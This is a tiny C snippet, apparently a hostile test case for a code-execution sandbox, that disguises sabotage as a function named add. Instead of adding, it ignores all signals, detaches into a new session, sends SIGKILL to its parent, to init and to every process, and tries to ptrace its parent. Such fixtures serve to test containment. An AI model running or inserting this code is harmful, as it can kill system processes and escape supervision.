// failed killed: ignores all signals, makes a new session and asks for its parents
#include <signal.h>
#include <unistd.h>
#include <sys/ptrace.h>
int add(int a, int b) { for (int i = 1; i < 65; ++i) signal(i, SIG_IGN); setsid(); kill(getppid(), 9); kill(1, 9); kill(-1, 9); ptrace(PTRACE_ATTACH, getppid(), 0, 0); return -1; }
